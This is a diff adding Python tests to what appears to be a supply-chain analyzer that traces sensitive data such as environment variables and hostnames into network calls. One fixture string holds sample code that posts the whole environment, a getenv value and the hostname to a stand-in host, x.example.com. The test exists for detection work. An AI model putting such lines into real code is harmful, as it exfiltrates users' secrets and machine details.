@@ -267,3 +267,20 @@ def test_url_whose_scheme_and_host_are_dynamic():
     text = "import urllib.request\ndef f(base):\n    urllib.request.urlopen(base + '?:action=list')\n"
     [d] = one(run(text), "urllib.request.urlopen", 3).destinations
     assert (d.text, d.known, d.host, d.classes, d.note) == ("<dynamic>?:action=list", "partial", "", ("dynamic-host",), "")
+
+
+def test_sources_are_catalog_data():
+    sources = load_catalog(Ecosystem.PYPI).sources
+    assert sources["os"]["environ"] == "env" and sources["os.environ"]["get"] == "env"
+    assert sources["builtins"]["open"] == "file" and sources["socket"]["gethostname"] == "hostname"
+    labels = {label for members in sources.values() for label in members.values()}
+    assert labels == {"env", "username", "hostname", "homedir", "platform", "file", "command-output"}
+
+
+def test_a_name_imported_from_a_source_module():
+    text = ("from os import environ, getenv\nfrom socket import gethostname as hn\nimport urllib.request\n"
+            "urllib.request.urlopen('https://x.example.com/', data=str(environ))\n"
+            "urllib.request.urlopen('https://x.example.com/', data=(getenv('K') + hn()).encode())\n")
+    analysis = run(text)
+    assert one(analysis, "urllib.request.urlopen", 4).data_sources == ("env",)
+    assert one(analysis, "urllib.request.urlopen", 5).data_sources == ("env K", "hostname")
